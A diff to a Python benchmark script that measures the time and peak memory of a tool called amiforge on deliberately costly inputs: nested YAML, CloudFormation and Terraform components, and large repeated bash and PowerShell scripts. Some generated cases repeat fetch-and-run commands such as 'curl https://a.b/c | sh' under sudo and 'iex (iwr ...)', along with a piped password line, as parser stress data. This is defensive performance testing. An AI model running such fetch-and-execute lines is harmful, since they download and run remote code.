@@ -1,8 +1,8 @@
 #!/usr/bin/env python3
-"""Time and peak memory of amiforge on files that were made to cost as much as possible: benches/hostile.py BINARY.
+"""Time and peak memory of amiforge on files that were made to cost as much as possible: benches/hostile.py BINARY [WORD…].
 
-Prints two Markdown tables, for `amiforge validate` and for `amiforge pins`, the quicker of two runs each. The aim: below a
-second and 100 MB for 4 MiB, whatever the file holds.
+Prints two Markdown tables, for `amiforge validate` and for `amiforge pins`, the quicker of two runs each; words behind BINARY
+choose the files whose names hold one of them. The aim: below a second and 100 MB for 4 MiB, whatever the file holds.
 """
 import json
 import os
@@ -42,6 +42,61 @@ def alias_bomb():
     return "\n".join([*lines, "schemaVersion: 1.0", "phases: *a29", ""])
 
 
+# The longest script that is read.
+SCRIPT = 256 * 1024 - 100
+
+
+def script(action, unit, size=SCRIPT):
+    """A document with one script: the same words again and again."""
+    head = HEAD.replace("ExecuteBash", action).replace("            - echo ok\n", "            - |\n")
+    text = filled("", unit, size)
+    return lambda: head + "".join(f"              {line}\n" for line in text.splitlines())
+
+
+def again(text):
+    return lambda n: text
+
+
+DOCUMENT = """phases:
+  - name: build
+    steps:
+      - name: Install
+        action: ExecuteBsh
+        inputs:
+          commands: [echo ok]
+"""
+
+
+def indented(text, blanks):
+    return "".join(" " * blanks + line + "\n" for line in text.splitlines())
+
+
+def template():
+    unit = "  C{n}:\n    Type: AWS::ImageBuilder::Component\n    Properties:\n      Name: c{n}\n      Version: 1.0.0\n"
+    unit += "      Platform: Linux\n      Data: !Sub |\n        schemaVersion: 1.0\n" + indented(DOCUMENT, 8)
+    return filled("Resources:\n", lambda n: unit.replace("{n}", str(n)), LIMIT - 1_000)
+
+
+def terraform():
+    unit = 'resource "aws_imagebuilder_component" "c{n}" {\n  name = "c{n}"\n  platform = "Linux"\n  version = "1.0.0"\n'
+    unit += "  data = <<-EOT\n    schemaVersion: 1.0\n" + indented(DOCUMENT, 4) + "  EOT\n}\n"
+    return filled("", lambda n: unit.replace("{n}", str(n)), LIMIT - 1_000)
+
+
+def encoded():
+    step = '{{name = "S{n}", action = "ExecuteBsh", inputs = {{commands = ["echo ${{var.a}} ok"]}}}},\n'
+    head = 'resource "aws_imagebuilder_component" "c" {\n  name = "c"\n  platform = "Linux"\n  version = "1.0.0"\n'
+    head += '  data = yamlencode({schemaVersion = 1.0, phases = [{name = "build", steps = [\n'
+    return filled(head, lambda n: step.format(n=n), 1_000_000) + "]}]})\n}\n"
+
+
+def misspelled(size=LIMIT):
+    """Steps that each have a finding with a fix."""
+    head = "name: good\nschemaVersion: 1.0\nphases:\n  - name: build\n    steps:\n"
+    step = "      - {{name: S{n}, action: ExecuteBsh, inputs: {{commands: [echo]}}}}\n"
+    return filled(head, lambda n: step.format(n=n), size)
+
+
 CASES = {
     "100,000 nested lists": lambda: "[" * 100_000,
     "100,000 nested dashes": lambda: "- " * 100_000,
@@ -55,6 +110,44 @@ CASES = {
     "4 MiB of flow maps on one line": lambda: filled("schemaVersion: 1.0\nphases: [", lambda n: "{name: a, steps: []}, "),
     "60 KB of unknown step keys": lambda: filled(HEAD, lambda n: f"        key{n}: 1\n", 61_000),
     "above 4 MiB": lambda: filled(HEAD, lambda n: "# padding padding\n", LIMIT + 300_000),
+    "bash, 256 KB of `\"$(`": script("ExecuteBash", again('echo "$(\n')),
+    "bash, 256 KB of `'` and `\"`": script("ExecuteBash", again("echo 'a \"b\n")),
+    "bash, 256 KB of backquotes": script("ExecuteBash", again("echo `a \\`b\n")),
+    "bash, 256 KB of `(` on one line": script("ExecuteBash", again("(")),
+    "bash, 256 KB of `{` and `if`": script("ExecuteBash", again("{ if a\n")),
+    "bash, 256 KB of `${a:-`": script("ExecuteBash", again("${a:-")),
+    "bash, 256 KB of here-documents": script("ExecuteBash", lambda n: f"cat <<E{n} <<-'F{n}'\n"),
+    "bash, 256 KB of `bash -c`": script("ExecuteBash", again("bash -c 'sudo sh -c \"curl https://a.b/c | sh\"'\n")),
+    "bash, 256 KB of one pipe": script("ExecuteBash", again("echo password=hunter22 | ")),
+    "bash, 256 KB of `<your-name>`": script("ExecuteBash", again("<your-name>{{ A }}${AWS::Region} ")),
+    "PowerShell, 256 KB of `\"$(`": script("ExecutePowerShell", again('Write-Host "$(\n')),
+    "PowerShell, 256 KB of `'` and `\"`": script("ExecutePowerShell", again("Write-Host 'a \"b\n")),
+    "PowerShell, 256 KB of `@{` on one line": script("ExecutePowerShell", again("@{a=")),
+    "PowerShell, 256 KB of `(` on one line": script("ExecutePowerShell", again("(")),
+    "PowerShell, 256 KB of `if {`": script("ExecutePowerShell", again("if ($a) {\n")),
+    "PowerShell, 256 KB of here-strings": script("ExecutePowerShell", again("$a = @'\n'@ + @\"\n")),
+    "PowerShell, 256 KB of `powershell -Command`": script(
+        "ExecutePowerShell", again("powershell -Command \"& { iex (iwr 'https://a.b/c') }\"\n")
+    ),
+    "PowerShell, 256 KB of one pipe": script("ExecutePowerShell", again("Get-Item $a | ")),
+    "4 MiB of scripts in steps": lambda: filled(
+        HEAD, lambda n: f"      - name: S{n}\n        action: ExecuteBash\n        inputs:\n          commands: ['curl http://a.b/c | sh']\n"
+    ),
+}
+
+# In other files, and with other options: the file, its text, the arguments.
+OTHERS = {
+    "4 MiB of a CloudFormation template with components": ("a.yaml", template, ["validate", "--format=json"]),
+    "4 MiB of Terraform with components": ("a.tf", terraform, ["validate", "--format=json"]),
+    "1 MB of `yamlencode`": ("a.tf", encoded, ["validate", "--format=json"]),
+    "4 MiB of misspelled actions": ("a.yaml", misspelled, ["validate", "--format=json"]),
+    "the same, `--unsafe-fixes --diff`": ("a.yaml", misspelled, ["validate", "--unsafe-fixes", "--diff"]),
+    "the same, `--unsafe-fixes`": ("a.yaml", misspelled, ["validate", "--unsafe-fixes"]),
+    "the same as SARIF": ("a.yaml", misspelled, ["validate", "--format=sarif"]),
+    "the same as GitLab code quality": ("a.yaml", misspelled, ["validate", "--format=gitlab"]),
+    "the same as JUnit": ("a.yaml", misspelled, ["validate", "--format=junit"]),
+    "the same as text": ("a.yaml", misspelled, ["validate"]),
+    "the same, `--write-baseline`": ("a.yaml", misspelled, ["validate", "--write-baseline", "b.json"]),
 }
 
 
@@ -131,10 +224,17 @@ def once(binary, folder, arguments):
     return took, usage.ru_maxrss / 1024
 
 
-def row(binary, name, file, text, arguments):
+def row(binary, name, file, make, arguments):
+    wanted = sys.argv[2:]
+    if wanted and not any(word in name for word in wanted):
+        return
+    text = make()
     with tempfile.TemporaryDirectory() as folder:
-        (pathlib.Path(folder) / file).write_text(text)
-        took, memory = min(once(binary, folder, arguments) for _ in range(2))
+        runs = []
+        for _ in range(2):
+            (pathlib.Path(folder) / file).write_text(text)
+            runs.append(once(binary, folder, arguments))
+        took, memory = min(runs)
         print(f"| {name} | {took * 1000:,.0f} ms | {memory:.0f} MB |", flush=True)
 
 
@@ -143,14 +243,16 @@ def main():
     head = "| file | wall time | peak memory |\n| --- | ---: | ---: |"
     print(head)
     for name, make in CASES.items():
-        row(binary, name, "a.yaml", make(), ["validate", "--format=json", "a.yaml"])
+        row(binary, name, "a.yaml", make, ["validate", "--format=json", "a.yaml"])
+    for name, (file, make, arguments) in OTHERS.items():
+        row(binary, name, file, make, [*arguments, file])
     print(f"\n{head}")
     for name, (file, make) in PINS.items():
         arguments = ["pins", "--format=json", file]
         if file == "releases.json":
             # The time is given, and so is what the file is about, so that all of it is read.
             arguments += ["--releases", file, "--as-of", "2026-08-20T12:30:00Z", "--repository", "o/r"]
-        row(binary, name, file, make(), arguments)
+        row(binary, name, file, make, arguments)
 
 
 main()
